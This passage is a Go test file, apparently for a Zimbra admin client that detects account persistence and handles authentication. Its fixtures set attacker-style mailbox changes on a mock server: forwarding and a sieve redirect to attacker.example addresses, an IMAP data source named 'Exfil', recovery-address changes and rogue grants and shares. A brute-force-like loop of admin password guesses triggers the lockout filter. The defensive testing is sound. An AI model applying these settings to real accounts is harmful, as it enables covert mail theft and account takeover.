		"zimbraPrefReplyToEnabled":      {"TRUE"},
		"zimbraPrefReplyToAddress":      {"payroll@attacker.example"},
		"zimbraPrefWhenSentToAddresses": {"a@example.edu", "b@example.edu"},
	})
	ctx := context.Background()
	p, err := e.c.Persistence(ctx, user)
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256([]byte(script))
	switch {
	case p.Account != user || p.ID != id || p.Status != "active":
		t.Fatalf("account %+v", p)
	case !slices.Equal(p.ForwardingAddresses, []string{"evil@attacker.example"}) || len(p.AdminForwardingAddresses) != 0:
		t.Fatalf("forwarding %q %q", p.ForwardingAddresses, p.AdminForwardingAddresses)
	case !p.LocalDeliveryDisabled:
		t.Fatal("LocalDeliveryDisabled not reported")
	case p.SieveScript != zimbra.Script{Present: true, Size: len(script), SHA256: hex.EncodeToString(sum[:])}:
		t.Fatalf("sieve %+v", p.SieveScript)
	case p.OutgoingSieveScript.Present:
		t.Fatalf("outgoing sieve %+v", p.OutgoingSieveScript)
	case !p.PasswordModified.Equal(time.Date(2025, 12, 24, 8, 0, 0, 0, time.UTC)):
		t.Fatalf("PasswordModified %v", p.PasswordModified)
	case p.IdentitiesError != "":
		t.Fatalf("IdentitiesError %q", p.IdentitiesError)
	}
	want := []zimbra.Identity{
		{Name: "DEFAULT", ID: id, FromAddress: user, ReplyToEnabled: true, ReplyToAddress: "alice.help@attacker.example"},
		{Name: "Support", ID: idID, FromAddress: user, ReplyToEnabled: true, ReplyToAddress: "payroll@attacker.example"},
	}
	if !slices.Equal(p.Identities, want) {
		t.Fatalf("identities\n %+v\nwant\n %+v", p.Identities, want)
	}
	wantCalls(t, e.srv, authCall,
		"GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","),
		"GetIdentitiesRequest target="+id,
		"GetGrantsRequest account="+id+" target=account:id",
		"GetShareInfoRequest account="+id,
		"GetDataSourcesRequest account="+id,
	)

	// Identities are best effort: a delegated admin may not read them.
	e.srv.FailNext("GetIdentitiesRequest", zimbra.CodePermDenied, "permission denied: need right getAccountInfo")
	p, err = e.c.Persistence(ctx, user)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(p.IdentitiesError, zimbra.CodePermDenied) || len(p.Identities) != 1 || p.Identities[0] != want[0] {
		t.Fatalf("after a failed GetIdentities: %q %+v", p.IdentitiesError, p.Identities)
	}
	if !slices.Equal(p.ForwardingAddresses, []string{"evil@attacker.example"}) {
		t.Fatal("forwarding lost when identities failed")
	}
	if strings.Contains(e.logs.String(), "redirect") {
		t.Fatal("sieve script content in the log")
	}
}

// TestPersistenceCoverage sets what an attacker can leave on a Zimbra
// account and checks that Persistence reports each, and reports a part it
// could not read as unknown rather than absent.
func TestPersistenceCoverage(t *testing.T) {
	attacker := map[string][]string{
		"zimbraMailAlias":                         {"a.liddell@example.edu"},
		"zimbraPrefFromAddress":                   {"A.Liddell@example.edu"}, // an alias: not a finding
		"zimbraFeatureAddressUnderVerification":   {"pending@attacker.example"},
		"zimbraPrefPasswordRecoveryAddress":       {"reset@attacker.example"},
		"zimbraPrefPasswordRecoveryAddressStatus": {"verified"},
		"zimbraTwoFactorAuthEnabled":              {"TRUE"},
		"zimbraAppSpecificPassword":               {"hash1", "hash2", "hash3"},
		"zimbraMailOutgoingSieveScript":           {`redirect "copy@attacker.example";`},
	}
	setup := func(s *zimbratest.Server) {
		s.SetCOS(map[string][]string{"zimbraFeatureAppSpecificPasswordsEnabled": {"TRUE"}, "zimbraFeatureTwoFactorAuthRequired": {"FALSE"}})
		s.AddAccount(user, attacker)
		s.AddGrant(user, "usr", "mallory@example.edu", "sendAs", false)
		s.AddShare(user, "/Inbox", "usr", "mallory@example.edu", "rwidx")
		s.AddDataSource(user, "Exfil", "imap", map[string][]string{"zimbraDataSourceHost": {"imap.attacker.example"},
			"zimbraDataSourceEnabled": {"TRUE"}, "zimbraDataSourcePassword": {"hunter2"}, "zimbraDataSourceOAuthToken": {"tok"}})
	}
	t.Run("global admin", func(t *testing.T) {
		e := newEnv(t, zimbratest.Options{})
		setup(e.srv)
		p, err := e.c.Persistence(context.Background(), user)
		if err != nil {
			t.Fatal(err)
		}
		tf := zimbra.TwoFactor{Enabled: "TRUE", Required: "FALSE", AppSpecificPasswordsEnabled: "TRUE", AppSpecificPasswords: 1}
		switch {
		case p.ForwardingUnderVerification != "pending@attacker.example":
			t.Fatalf("forwarding under verification %q", p.ForwardingUnderVerification)
		case p.RecoveryAddress != "reset@attacker.example" || p.RecoveryAddressStatus != "verified":
			t.Fatalf("recovery %q %q", p.RecoveryAddress, p.RecoveryAddressStatus)
		case p.TwoFactor != tf: // three passwords, one VALUE-BLOCKED
			t.Fatalf("two-factor %+v", p.TwoFactor)
		case !p.OutgoingSieveScript.Present:
			t.Fatal("outgoing filter")
		case len(p.Grants) != 1 || p.Grants[0].Right != "sendAs" || p.Grants[0].GranteeName != "mallory@example.edu" || p.Grants[0].GranteeType != "usr" || p.Grants[0].Deny:
			t.Fatalf("grants %+v", p.Grants)
		case len(p.Shares) != 1 || p.Shares[0].FolderPath != "/Inbox" || p.Shares[0].Rights != "rwidx" || p.Shares[0].GranteeName != "mallory@example.edu":
			t.Fatalf("shares %+v", p.Shares)
		case len(p.DataSources) != 1 || p.DataSources[0] != (zimbra.DataSource{Name: "Exfil", ID: p.DataSources[0].ID, Type: "imap", Host: "imap.attacker.example", Enabled: "TRUE"}):
			t.Fatalf("data sources %+v", p.DataSources)
		case p.GrantsError != "" || p.SharesError != "" || p.DataSourcesError != "" || p.IdentitiesError != "":
			t.Fatalf("errors %q %q %q %q", p.GrantsError, p.SharesError, p.DataSourcesError, p.IdentitiesError)
		case !p.OwnAddress("A.LIDDELL@example.edu") || !p.OwnAddress(user) || p.OwnAddress("mallory@example.edu"):
			t.Fatal("OwnAddress")
		}
		if strings.Contains(fmt.Sprintf("%+v", p), "hunter2") || strings.Contains(e.logs.String(), "hunter2") {
			t.Fatal("a data source password surfaced")
		}
	})
	t.Run("delegated admin", func(t *testing.T) {
		e := newEnv(t, zimbratest.Options{
			MissingRights: []string{zimbratest.RightAdminLoginAs, zimbratest.RightViewGrants},
			DeniedAttrs:   []string{"zimbraPrefMailForwardingAddress", "zimbraPrefPasswordRecoveryAddress", "zimbraMailSieveScript"},
		})
		attacker["zimbraPrefMailForwardingAddress"] = []string{"fwd@attacker.example"}
		defer delete(attacker, "zimbraPrefMailForwardingAddress")
		setup(e.srv)
		p, err := e.c.Persistence(context.Background(), user)
		if err != nil {
			t.Fatal(err)
		}
		// Set and unreadable: denied, never "no forwarding". Unset and
		// unreadable (the incoming sieve): not listed at all, as ToXML
		// lists only attributes with a value.
		if !p.Denied("zimbraPrefMailForwardingAddress") || len(p.ForwardingAddresses) != 0 || !p.Denied("zimbraPrefPasswordRecoveryAddress") ||
			p.RecoveryAddress != "" || p.Denied("zimbraMailSieveScript") {
			t.Fatalf("denied %q forwarding %q", p.DeniedAttrs, p.ForwardingAddresses)
		}
		for what, got := range map[string]string{"grants": p.GrantsError, "shares": p.SharesError, "data sources": p.DataSourcesError, "identities": p.IdentitiesError} {
			if !strings.Contains(got, zimbra.CodePermDenied) {
				t.Errorf("%s: %q, want a PERM_DENIED report", what, got)
			}
		}
		if len(p.Identities) != 1 || p.Identities[0].Name != "DEFAULT" {
			t.Fatalf("identities %+v", p.Identities)
		}
	})
	t.Run("8.6 server: no two-factor, no recovery address", func(t *testing.T) {
		e := newEnv(t, zimbratest.Options{UnknownAttrs: append(slices.Clone(zimbratest.AttrsSince889), "zimbraFeatureAddressUnderVerification",
			"zimbraTwoFactorAuthEnabled", "zimbraFeatureTwoFactorAuthRequired", "zimbraFeatureAppSpecificPasswordsEnabled",
			"zimbraAppSpecificPassword", "zimbraTwoFactorAuthTrustedDevices")})
		e.srv.AddAccount(user, nil)
		p, err := e.c.Persistence(context.Background(), user)
		if err != nil {
			t.Fatal(err)
		}
		if !p.Unsupported("zimbraTwoFactorAuthEnabled") || !p.Unsupported("zimbraPrefPasswordRecoveryAddress") || p.Unsupported("zimbraMailSieveScript") {
			t.Fatalf("unsupported %q", p.UnsupportedAttrs)
		}
	})
}

func TestTokenExpiredReauthenticates(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	e.srv.AddAccount(user, nil)
	ctx := context.Background()
	get := "GetAccountRequest account=" + user + " attrs=zimbraId"
	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
		t.Fatal(err)
	}
	e.srv.ExpireTokens()
	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
		t.Fatal(err)
	}
	wantCalls(t, e.srv, authCall, get, get+" fault=service.AUTH_EXPIRED", authCall, get)

	// AUTH_REQUIRED (a token the server no longer knows) is retried too.
	e.srv.ResetCalls()
	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthRequired, "no valid authtoken present")
	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
		t.Fatal(err)
	}
	wantCalls(t, e.srv, get+" fault=service.AUTH_REQUIRED", authCall, get)

	// Only once: a second expiry is the caller's error.
	e.srv.ResetCalls()
	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthExpired, "auth credentials have expired")
	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthExpired, "auth credentials have expired")
	_, err := e.c.GetAccount(ctx, user, "zimbraId")
	if !errors.Is(err, zimbra.ErrAuthExpired) {
		t.Fatalf("second expiry: %v", err)
	}
	wantCalls(t, e.srv, get+" fault=service.AUTH_EXPIRED", authCall, get+" fault=service.AUTH_EXPIRED")
}

func TestTokenLifetimeRenewal(t *testing.T) {
	e := newEnv(t, zimbratest.Options{TokenLifetime: time.Hour})
	e.srv.AddAccount(user, nil)
	ctx := context.Background()
	get := "GetAccountRequest account=" + user + " attrs=zimbraId"
	for range 2 {
		if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
			t.Fatal(err)
		}
	}
	e.clock.Add(59*time.Minute + 30*time.Second) // inside the renewal margin
	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
		t.Fatal(err)
	}
	wantCalls(t, e.srv, authCall, get, get, authCall, get)
}

func TestWrongAdminPassword(t *testing.T) {
	const wrong = "not-the-admin-password"
	e := newEnv(t, zimbratest.Options{}, func(c *zimbra.Config) {
		c.AdminPasswordFile = filepath.Join(t.TempDir(), "pw")
		if err := os.WriteFile(c.AdminPasswordFile, []byte(wrong+"\r\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	})
	e.srv.AddAccount(user, nil)
	_, err := e.c.GetAccount(context.Background(), user)
	var f *zimbra.Fault
	if !errors.As(err, &f) || f.Code != zimbra.CodeAuthFailed || !errors.Is(err, zimbra.ErrAuthFailed) {
		t.Fatalf("wrong admin password: %v", err)
	}
	if strings.Contains(err.Error(), wrong) || strings.Contains(e.logs.String(), wrong) {
		t.Fatal("admin password in error or log")
	}
	wantCalls(t, e.srv, authCall+" fault=account.AUTH_FAILED")
}

// TestInvalidLoginFilter: after more than 10 failed logins from an IP,
// Zimbra's ZimbraInvalidLoginFilter answers every request from it with
// HTTP 503, not a SOAP fault, for 15 to 20 minutes
// (ZimbraInvalidLoginFilter.java lines 107–200 at zm-mailbox 2b7f9787c69e).
// The client recognises it, fails with ErrLoginSuspended naming the filter
// and the time, and sends no AuthRequest until 20 minutes have passed.
func TestInvalidLoginFilter(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	e.srv.AddAccount(user, nil)
	// Another tool on the same host guesses the admin password eleven times.
	for range 11 {
		resp, err := e.srv.Client().Post(e.srv.URL(), "application/json",
			strings.NewReader(`{"Body":{"AuthRequest":{"_jsns":"urn:zimbraAdmin","name":"admin@example.test","password":"guess"}}}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	e.srv.ResetCalls()
	start := e.clock.Now()
	ctx := context.Background()
	_, err := e.c.GetAccount(ctx, user)
	var le *zimbra.LoginSuspendedError
	if !errors.Is(err, zimbra.ErrLoginSuspended) || !errors.As(err, &le) || le.HeldBack || !le.RetryAfter.Equal(start.Add(20*time.Minute)) ||
		!strings.Contains(err.Error(), "ZimbraInvalidLoginFilter") || !strings.Contains(err.Error(), "2026-03-01T09:50:00Z") {
		t.Fatalf("err = %v", err)
	}
	wantCalls(t, e.srv, "AuthRequest http=503")

	// Held back: nothing is sent, neither now nor at 19 minutes.
	for _, d := range []time.Duration{0, 19 * time.Minute} {
		e.clock.Add(d)
		if _, err := e.c.GetAccount(ctx, user); !errors.As(err, &le) || !le.HeldBack || !errors.Is(err, zimbra.ErrLoginSuspended) {
			t.Fatalf("after %v: %v", d, err)
		}
	}
	wantCalls(t, e.srv, "AuthRequest http=503")
	// The filter has reinstated the IP (suspended for more than 15
	// minutes at a 5-minutely task run); the client tries again at 20.
	e.clock.Add(time.Minute)
	if _, err := e.c.GetAccount(ctx, user); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(e.logs.String(), "ZimbraInvalidLoginFilter") {
		t.Error("the suspension is not logged")
	}
}

// TestAuthFailedHold: a wrong admin password is not tried again at every
// call, as each failure counts towards ZimbraInvalidLoginFilter's limit
// for the daemon's IP.
func TestAuthFailedHold(t *testing.T) {
	e := newEnv(t, zimbratest.Options{}, func(c *zimbra.Config) {
		c.AdminPasswordFile = filepath.Join(t.TempDir(), "pw")
		if err := os.WriteFile(c.AdminPasswordFile, []byte("wrong\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	})
	e.srv.AddAccount(user, nil)
	ctx := context.Background()
	for range 3 {
		if _, err := e.c.GetAccount(ctx, user); !errors.Is(err, zimbra.ErrAuthFailed) {
			t.Fatalf("err = %v", err)
		}
	}
	e.clock.Add(5 * time.Minute)
	if _, err := e.c.GetAccount(ctx, user); !errors.Is(err, zimbra.ErrAuthFailed) {
		t.Fatalf("err = %v", err)
	}
	wantCalls(t, e.srv, authCall+" fault=account.AUTH_FAILED", authCall+" fault=account.AUTH_FAILED")
}

// TestInvalidLoginFilterOnAPeer: a peer that suspended the IP fails its
// flush with the filter named; the configured endpoint is not held back.
func TestInvalidLoginFilterOnAPeer(t *testing.T) {
	e := newEnv(t, zimbratest.Options{Peers: []string{"mbox2.example.test"}, InvalidLoginFilterMaxFailedLogin: 2})
	e.srv.AddAccount(user, nil)
	peer := e.srv.Peer("mbox2.example.test")
	for range 3 {
		resp, err := peer.Client().Post(peer.URL(), "application/json",
			strings.NewReader(`{"Body":{"AuthRequest":{"_jsns":"urn:zimbraAdmin","name":"admin@example.test","password":"guess"}}}`))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
	}
	r, err := e.c.FlushAccountCache(context.Background(), user)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(r.Failed(), []string{"mbox2.example.test"}) || !errors.Is(r.Servers[1].Err, zimbra.ErrLoginSuspended) ||
		!strings.Contains(r.String(), "ZimbraInvalidLoginFilter") {
		t.Fatalf("report %s", r)
	}
	if _, err := e.c.GetAccount(context.Background(), user); err != nil {
		t.Fatalf("the configured endpoint held back after a peer's 503: %v", err)
	}
}

func TestTLS(t *testing.T) {
	srv := zimbratest.Start(t, zimbratest.Options{})
	srv.AddAccount(user, nil)
	pwFile := srv.AdminPasswordFile(t)
	for _, tc := range []struct {
		name     string
		caFile   string
		insecure bool
		ok       bool
	}{
		{"CAFile", srv.CAFile(), false, true},
		{"system roots", "", false, false},
		{"InsecureSkipVerify", "", true, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c, err := zimbra.New(zimbra.Config{URL: srv.URL(), AdminUser: srv.AdminUser(), AdminPasswordFile: pwFile,
				CAFile: tc.caFile, InsecureSkipVerify: tc.insecure})
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			_, err = c.GetAccount(context.Background(), user)
			if (err == nil) != tc.ok {
				t.Fatalf("err = %v, want ok=%v", err, tc.ok)
			}
			if !tc.ok && !strings.Contains(err.Error(), "certificate") {
				t.Fatalf("not a certificate error: %v", err)
			}
		})
	}
}

func TestHTTPErrors(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	bad, err := zimbra.New(zimbra.Config{URL: e.srv.BaseURL() + "/service/wrong", AdminUser: e.srv.AdminUser(),
		AdminPasswordFile: e.srv.AdminPasswordFile(t), CAFile: e.srv.CAFile()})
	if err != nil {
		t.Fatal(err)
	}
	defer bad.Close()
	_, err = bad.GetAccount(context.Background(), user)
	var f *zimbra.Fault
	if err == nil || errors.As(err, &f) || !strings.Contains(err.Error(), "HTTP 404") {
		t.Fatalf("404: %v", err)
	}

	// Oversized and non-JSON answers.
	for _, tc := range []struct {
		name, body, want string
		status           int
	}{
		{"too large", `{"Body":{"AuthResponse":{"authToken":"` + strings.Repeat("x", zimbra.MaxResponseBytes) + `"}}}`, "larger than", 200},
		{"html 502", "<html>bad gateway</html>", "HTTP 502", 502},
		{"not json 200", "<soap:Envelope/>", "malformed", 200},
		{"no lifetime", `{"Body":{"AuthResponse":{"authToken":[{"_content":"t"}]}}}`, "lifetime", 200},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ts := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.WriteHeader(tc.status)
				_, _ = io.WriteString(w, tc.body)
			}))
			defer ts.Close()
			c, err := zimbra.New(zimbra.Config{URL: ts.URL + "/service/admin/soap", AdminUser: "admin@x",
				AdminPasswordFile: e.srv.AdminPasswordFile(t), CAFile: writeCA(t, ts)})
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			_, err = c.GetAccount(context.Background(), user)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want %q", err, tc.want)
			}
		})
	}
}

func writeCA(t *testing.T, ts *httptest.Server) string {
	t.Helper()
	p := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(p, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ts.Certificate().Raw}), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestRequestShapes checks the bytes on the wire against REFERENCE.md §3.
func TestRequestShapes(t *testing.T) {
	var mu sync.Mutex
	var bodies []string
	ts := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, string(b))
		mu.Unlock()
		var resp string
		switch {
		case strings.Contains(string(b), `"AuthRequest"`):
			resp = `{"AuthResponse":{"authToken":[{"_content":"TOKEN"}],"lifetime":43200000,"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetAccountRequest"`):
			resp = `{"GetAccountResponse":{"account":[{"name":"u@dom","id":"ZID","a":[{"n":"zimbraId","_content":"ZID"},{"n":"zimbraAuthTokenValidityValue","_content":"2"}]}],"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"ModifyAccountRequest"`):
			resp = `{"ModifyAccountResponse":{"account":[{"name":"u@dom","id":"ZID","a":[]}],"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"SetPasswordRequest"`):
			resp = `{"SetPasswordResponse":{"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"FlushCacheRequest"`):
			resp = `{"FlushCacheResponse":{"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetConfigRequest"`):
			resp = `{"GetConfigResponse":{"a":[{"n":"zimbraAuthTokenValidityValueEnabled","_content":"TRUE"}],"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetAllServersRequest"`):
			host, port, _ := net.SplitHostPort(r.Host)
			resp = `{"GetAllServersResponse":{"server":[{"name":"mbox1.dom","id":"S1","a":[{"n":"zimbraServiceHostname","_content":"` + host +
				`"},{"n":"zimbraAdminPort","_content":"` + port + `"}]}],"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetIdentitiesRequest"`):
			resp = `{"GetIdentitiesResponse":{"identity":[],"_jsns":"urn:zimbraAccount"}}`
		case strings.Contains(string(b), `"GetGrantsRequest"`):
			resp = `{"GetGrantsResponse":{"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetShareInfoRequest"`):
			resp = `{"GetShareInfoResponse":{"_jsns":"urn:zimbraAdmin"}}`
		case strings.Contains(string(b), `"GetDataSourcesRequest"`):
			resp = `{"GetDataSourcesResponse":{"_jsns":"urn:zimbraAdmin"}}`
		}
		fmt.Fprintf(w, `{"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":%s,"_jsns":"urn:zimbraSoap"}`, resp)
	}))
	defer ts.Close()
	pw := filepath.Join(t.TempDir(), "pw")
	if err := os.WriteFile(pw, []byte("s3cr<e>t&\"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	c, err := zimbra.New(zimbra.Config{URL: ts.URL + "/service/admin/soap", AdminUser: "admin@dom", AdminPasswordFile: pw, CAFile: writeCA(t, ts)})
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	ctx := context.Background()
	if _, err := c.EndSessions(ctx, "u@dom"); err != nil {
		t.Fatal(err)
	}
	if err := c.Lock(ctx, "u@dom"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.SetPassword(ctx, "u@dom", []byte("RANDOM")); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Persistence(ctx, "u@dom"); err != nil {
		t.Fatal(err)
	}
	hdr := `{"Header":{"context":{"_jsns":"urn:zimbra","authToken":{"_content":"TOKEN"}}},"Body":`
	getID := hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"zimbraId","account":{"by":"name","_content":"u@dom"}}}}`
	want := []string{
		`{"Body":{"AuthRequest":{"_jsns":"urn:zimbraAdmin","name":"admin@dom","password":"s3cr<e>t&\""}}}`,
		hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"zimbraId,zimbraAuthTokenValidityValue,zimbraAccountStatus","account":{"by":"name","_content":"u@dom"}}}}`,
		hdr + `{"GetConfigRequest":{"_jsns":"urn:zimbraAdmin","a":{"n":"zimbraAuthTokenValidityValueEnabled"}}}}`,
		hdr + `{"ModifyAccountRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","a":[{"n":"zimbraAuthTokenValidityValue","_content":"3"}]}}}`,
		hdr + `{"GetAllServersRequest":{"_jsns":"urn:zimbraAdmin","service":"mailbox"}}}`,
		hdr + `{"FlushCacheRequest":{"_jsns":"urn:zimbraAdmin","cache":{"type":"account","allServers":"0","entry":[{"by":"id","_content":"ZID"}]}}}}`,
		getID,
		hdr + `{"ModifyAccountRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","a":[{"n":"zimbraAccountStatus","_content":"locked"}]}}}`,
		getID,
		hdr + `{"SetPasswordRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","newPassword":"RANDOM"}}}`,
		hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"` + strings.Join(zimbra.DefaultAttrs, ",") + `","account":{"by":"name","_content":"u@dom"}}}}`,
		`{"Header":{"context":{"_jsns":"urn:zimbra","authToken":{"_content":"TOKEN"},"account":{"by":"id","_content":"ZID"}}},"Body":{"GetIdentitiesRequest":{"_jsns":"urn:zimbraAccount"}}}`,
		hdr + `{"GetGrantsRequest":{"_jsns":"urn:zimbraAdmin","target":{"type":"account","by":"id","_content":"ZID"}}}}`,
		hdr + `{"GetShareInfoRequest":{"_jsns":"urn:zimbraAdmin","owner":{"by":"id","_content":"ZID"}}}}`,
		hdr + `{"GetDataSourcesRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID"}}}`,
	}
	mu.Lock()
	defer mu.Unlock()
	if len(bodies) != len(want) {
		t.Fatalf("%d requests, want %d:\n%s", len(bodies), len(want), strings.Join(bodies, "\n"))
	}
	for i := range want {
		if bodies[i] != want[i] {
			t.Errorf("request %d:\n got %s\nwant %s", i, bodies[i], want[i])
		}
	}
}

// TestPasswordsNeverLeak runs every operation, including failing ones,
// and looks for the passwords in the call log, errors and logs.
func TestPasswordsNeverLeak(t *testing.T) {
	const adminPw = "Adm1n-P@ss-phrase"
	e := newEnv(t, zimbratest.Options{AdminPassword: adminPw})
	e.srv.AddAccount(user, nil)
	ctx := context.Background()
	newPw := "Scrambled-9f8e7d6c5b4a"
	var errs []error
	_, err := e.c.SetPassword(ctx, user, []byte(newPw))
	errs = append(errs, err)
	// A server that quotes the password back in its fault reason.
	e.srv.FailNext("SetPasswordRequest", zimbra.CodeInvalidPassword, "invalid password: "+newPw+" is in the history")
	_, err = e.c.SetPassword(ctx, user, []byte(newPw))
	if !errors.Is(err, &zimbra.Fault{Code: zimbra.CodeInvalidPassword}) || !strings.Contains(err.Error(), "[redacted]") {
		t.Fatalf("quoted password not redacted: %v", err)
	}
	errs = append(errs, err)
	e.srv.FailNext("AuthRequest", zimbra.CodeAuthFailed, "authentication failed for [admin@example.test] with "+adminPw)
	e.srv.ExpireTokens()
	_, err = e.c.SetPassword(ctx, user, []byte(newPw))
	errs = append(errs, err)
	_, err = e.c.EndSessions(ctx, user)
	errs = append(errs, err, e.c.Lock(ctx, user))
	_, err = e.c.SetPassword(ctx, "nobody@example.edu", []byte(newPw))
	errs = append(errs, err)

	if !e.srv.CheckPassword(user, newPw) {
		t.Fatal("password not set")
	}
	var seen []string
	for _, c := range e.srv.Calls() {
		seen = append(seen, fmt.Sprintf("%#v", c))
	}
	for _, err := range errs {
		if err != nil {
			seen = append(seen, err.Error(), fmt.Sprintf("%+v", err))
		}
	}
	seen = append(seen, e.logs.String())
	for _, s := range seen {
		if strings.Contains(s, newPw) || strings.Contains(s, adminPw) {
			t.Fatalf("password leaked: %s", s)
		}
	}
	if !slices.ContainsFunc(e.srv.Calls(), func(c zimbratest.Call) bool { return c.Request == "SetPasswordRequest" && c.Password }) {
		t.Fatal("SetPasswordRequest not recorded as carrying a password")
	}
}

func TestConcurrentCallsShareOneAuth(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	e.srv.AddAccount(user, nil)
	var wg sync.WaitGroup
	errc := make(chan error, 16)
	for range 16 {
		wg.Go(func() {
			_, err := e.c.GetAccount(context.Background(), user, "zimbraId")
			errc <- err
		})
	}
	wg.Wait()
	close(errc)
	for err := range errc {
		if err != nil {
			t.Fatal(err)
		}
	}
	n := 0
	for _, c := range e.srv.Calls() {
		if c.Request == "AuthRequest" {
			n++
		}
	}
	if n != 1 {
		t.Fatalf("%d AuthRequests, want 1", n)
	}
}

func TestNewRejects(t *testing.T) {
	dir := t.TempDir()
	pw := filepath.Join(dir, "pw")
	empty := filepath.Join(dir, "empty")
	notPEM := filepath.Join(dir, "ca")
	for p, content := range map[string]string{pw: "secret\n", empty: "\n", notPEM: "not a certificate"} {
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	ok := zimbra.Config{URL: "https://mail.example.edu:7071/service/admin/soap", AdminUser: "admin@example.edu", AdminPasswordFile: pw}
	if _, err := zimbra.New(ok); err != nil {
		t.Fatal(err)
	}
	for name, edit := range map[string]func(*zimbra.Config){
		"no url":     func(c *zimbra.Config) { c.URL = "" },
		"http url":   func(c *zimbra.Config) { c.URL = "http://mail.example.edu:7071/service/admin/soap" },
		"no host":    func(c *zimbra.Config) { c.URL = "https:///service/admin/soap" },
		"no user":    func(c *zimbra.Config) { c.AdminUser = "" },
		"no pw file": func(c *zimbra.Config) { c.AdminPasswordFile = "" },
		"missing pw": func(c *zimbra.Config) { c.AdminPasswordFile = filepath.Join(dir, "nope") },
		"empty pw":   func(c *zimbra.Config) { c.AdminPasswordFile = empty },
		"ca not PEM": func(c *zimbra.Config) { c.CAFile = notPEM },
		"ca missing": func(c *zimbra.Config) { c.CAFile = filepath.Join(dir, "nope.pem") },
	} {
		cfg := ok
		edit(&cfg)
		_, err := zimbra.New(cfg)
		if err == nil {
			t.Errorf("%s: accepted", name)
		} else if strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: password in error %v", name, err)
		}
	}
}

func TestContextCancelled(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	e.srv.AddAccount(user, nil)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := e.c.GetAccount(ctx, user); !errors.Is(err, context.Canceled) {
		t.Fatalf("cancelled context: %v", err)
	}
}
